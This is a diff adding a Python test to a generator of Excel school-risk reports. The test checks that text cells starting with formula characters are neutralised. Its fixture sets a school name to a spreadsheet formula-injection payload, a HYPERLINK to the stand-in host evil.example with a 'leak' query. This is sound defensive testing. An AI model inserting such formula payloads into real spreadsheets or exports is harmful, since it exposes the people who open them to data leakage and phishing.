@@ -148,3 +148,20 @@ def test_no_machine_id_reaches_the_form(definition, thr):
     for name in ("Отчёт", "Показатели", "Зона риска", "Дефициты", "Рекомендации"):
         for row in sheet_rows(data, name):
             assert not [c for c in row if isinstance(c, str) and machine.match(c)], (name, row)
+
+
+def test_input_text_that_looks_like_a_formula_is_neutralised(definition, thr):
+    """SPEC §7: a text cell of a download starting with `=`, `+`, `-`, `@` is neutralised — also
+    in the published report form (a school's name from the registry, a recommendation)."""
+    schools = read_csv(DATA / "schools.csv")
+    risky = next(s for s in schools if s["municipality_code"] == "01" and s.get("risk") == "1")
+    risky["school_name"] = '=HYPERLINK("http://evil.example/?leak","Нажмите")'
+    recs = read_csv(DATA / "recommendations.csv")
+    mine = next(r for r in recs if r["scope"] == "municipality" and r["code"] == "01")
+    mine["text"] = "+7 часов занятий"
+    data = build_reports(definition, thr, read_csv(DATA / "municipalities.csv"),
+                         read_csv(DATA / "region.csv")[0], schools,
+                         read_csv(DATA / "deficits.csv"), recs)["01.xlsx"]  # fmt: skip
+    names = [r[1] for r in sheet_rows(data, "Зона риска")]
+    assert "'" + risky["school_name"] in names and risky["school_name"] not in names
+    assert "'+7 часов занятий" in [r[2] for r in sheet_rows(data, "Рекомендации")]
